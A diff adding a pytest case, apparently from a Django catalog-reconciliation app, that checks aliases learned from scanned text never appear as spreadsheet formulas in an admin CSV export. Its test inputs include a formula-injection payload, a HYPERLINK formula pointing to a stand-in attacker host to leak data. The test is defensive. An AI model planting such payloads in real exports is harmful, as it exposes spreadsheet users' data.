@@ -66,3 +66,24 @@ def test_row25_hostile_numbers_in_query_strings_are_refused_or_ignored_never_a_s
     assert response.status_code in (200, 400), response.status_code
     if url.startswith("/api/"):
         assert response.status_code == 400 and "batch" in response.json()
+
+
+# ---------------------------------------------------------------- row 26: formulas learned into the catalog
+@pytest.mark.parametrize("printed", ['=HYPERLINK("http://evil.example/?leak","DIRECCION")', "+1+2 DIRECCION",
+                                     "-2+3 DIRECCION", "@SUM(A1) DIRECCION"])
+def test_row26_a_spelling_read_from_a_scan_never_becomes_a_formula_in_the_catalog_csv(world, printed):
+    """A reviewer keeps the printed spelling as an alias (records.review._learn_alias): the text comes from
+    the scan, and the catalog CSV the admin downloads (and edits in a spreadsheet) holds it as a cell."""
+    import csv
+    import io
+
+    from reconcile.catalog_db import add_alias
+    from reconcile.models import CatalogEntry
+
+    entry = CatalogEntry.objects.create(kind="unidad_ejecutora", code="71101", name="DIRECCION DE PRUEBA")
+    assert add_alias(entry, printed)  # still learned: the matcher folds punctuation away anyway
+    answer = client_for(world["root"]).get("/admin/reconcile/catalogentry/export-csv/")
+    assert answer.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(body(answer).decode())) for c in row]
+    assert any("DIRECCION" in c for c in cells[cells.index("aliases"):][1:])  # the alias is in the file
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
